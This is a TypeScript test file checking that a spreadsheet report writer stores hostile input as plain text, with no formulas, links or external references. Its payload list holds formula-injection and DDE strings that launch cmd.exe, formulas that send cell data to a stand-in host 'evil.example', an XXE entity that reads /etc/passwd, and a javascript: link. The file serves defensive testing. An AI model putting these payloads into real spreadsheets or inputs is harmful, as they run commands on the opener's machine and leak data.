/**
 * Text from the data that spreadsheets are known to run, follow or misread: in a cell it is that
 * text and nothing else.
 *
 * **Source** — OWASP ASVS 1.2.10 (formula injection); ECMA-376 part 1, 18.18.11 and 22.9.2.19.
 */
import { visible } from "@tidemark/core/effect"
import { ReportSamples } from "@tidemark/core/testing"
import * as Stream from "effect/Stream"
import { assert, describe, it } from "vitest"
import { cellText, mostUnits } from "../src/CellText.ts"
import * as Workbooks from "./Workbooks.ts"

const payloads: ReadonlyArray<string> = [
  // Formulas, in every way a spreadsheet begins one.
  "=1+1",
  "=SUM(A1:A9)",
  "+1+1",
  "+972501234567",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1,2)",
  "=cmd|'/C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '=WEBSERVICE("https://evil.example")',
  '=IMPORTXML("https://evil.example","//a")',
  '=IMAGE("https://evil.example/x.png")',
  "={1,2,3}",
  "=@A1",
  "=A1#",
  "\uff1d1+1",
  "\uff0b1+1",
  "\uff0d1+1",
  "\uff20SUM(A1)",
  " =1+1",
  "'=1+1",
  '"=1+1"',
  ";=1+1",
  ",=1+1",
  // What may come before a formula unseen.
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\r\n=1+1",
  "\u0000=1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  // Links.
  "https://evil.example",
  "file:///etc/passwd",
  "mailto:a@example.com",
  "\\\\evil.example\\share",
  "javascript:alert(1)",
  // XML and what exceljs makes of text.
  "<f>1+1</f>",
  "</t></is></c><c><f>1+1</f></c>",
  "]]>&lt;&amp;&#61;",
  "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
  '{"formula":"1+1"}',
  '{"richText":[{"text":"x"}]}',
  // Escapes of the format.
  "_x000D_",
  "a_x003D_1+1",
  "_x005F_x000D_",
  "_x0000_=1+1",
  // Order and hidden characters.
  "C-\u202e1234\u202c",
  "\u2066=1+1\u2069",
  "a\u0007b\u001bc\u007fd",
  "\ud83d",
  "\udc00x",
  "\ufffe",
  // Numbers, dates and values a spreadsheet likes to make of text.
  "1E5",
  "00123",
  "TRUE",
  "1/2/2026",
  "#REF!",
  "   ",
  "   spaces at both ends   "
]

const long = ["x".repeat(mostUnits + 1), `${"x".repeat(mostUnits - 2)}🙂🙂`, "=1+".repeat(20_000)]

/** The cell's own text of a payload: cut where a cell ends, else all of it as it may be seen. */
const expected = (text: string): string => {
  const shown = visible(text)
  return shown.length <= mostUnits ? shown : `${shown.slice(0, mostUnits - 1).toWellFormed()}…`
}

const assertInert = (bytes: Uint8Array): void => {
  for (const [name, part] of Workbooks.parts(bytes)) {
    assert.notMatch(part, /<f[ >/]|<hyperlink|<oleLink|<ddeLink|<externalReference/, name)
    assert.notMatch(name, /externalLink|vbaProject|connections|hyperlink/i)
    // No address outside but the names of the format's own schemas.
    for (const [target] of part.matchAll(/Target="[^"]*"|TargetMode="[^"]*"/g)) {
      assert.notMatch(target, /External|:\/\//, name)
    }
    if (name.startsWith("xl/worksheets/")) {
      for (const [cell] of part.matchAll(/<c [^>]*>/g)) {
        const type = / t="([^"]*)"/.exec(cell)?.[1] ?? "n"
        assert.include(["n", "s", "inlineStr"], type, cell)
      }
    }
  }
}

describe("text in the report", () => {
  for (const payload of [...payloads, ...long]) {
    it(`is nothing but text: ${JSON.stringify(payload.slice(0, 60))} (${payload.length})`, async () => {
      const bytes = await Workbooks.written(ReportSamples.hostile(payload), { language: "he" })
      assertInert(bytes)
      const { sheets } = await Workbooks.workbook(bytes)
      const cells = sheets.flatMap(({ rows }) => rows.flat())
      assert.include(cells, expected(payload))
      for (const sheet of sheets) {
        for (const cell of sheet.cells?.values() ?? []) {
          assert.isUndefined(cell.formula)
          assert.isUndefined(cell.hyperlink)
        }
      }
    })
  }
})

describe("text in the annex", () => {
  it("is nothing but text, in its own row, whatever a customer is called", async () => {
    const report = ReportSamples.full("provisional")
    const ids = [...payloads, ...long]
    const rows = ids.map((customerId) => ({
      customerId,
      outcome: "Undetermined" as const,
      firstReason: customerId,
      dates: [],
      daysMet: 0,
      daysRequired: 30,
      disposition: null,
      dispositionReason: customerId
    }))
    const annex = Stream.fromIterable([rows])
    const bytes = await Workbooks.written(report, { language: "en", annex })
    assertInert(bytes)
    const sheet = (await Workbooks.workbook(bytes)).sheets.at(-1)
    assert.deepStrictEqual(
      sheet?.rows.slice(1).map(([id]) => id),
      ids.map(expected)
    )
  })
})

describe("the text of a cell", () => {
  it("is never longer than a cell, and cut between characters", () => {
    for (const text of long) {
      const cut = cellText(text)
      assert.strictEqual(cut.length, mostUnits)
      assert.isTrue(cut.isWellFormed())
      assert.isTrue(cut.endsWith("…"))
    }
    const fits = "x".repeat(mostUnits)
    assert.strictEqual(cellText(fits), fits)
  })
})
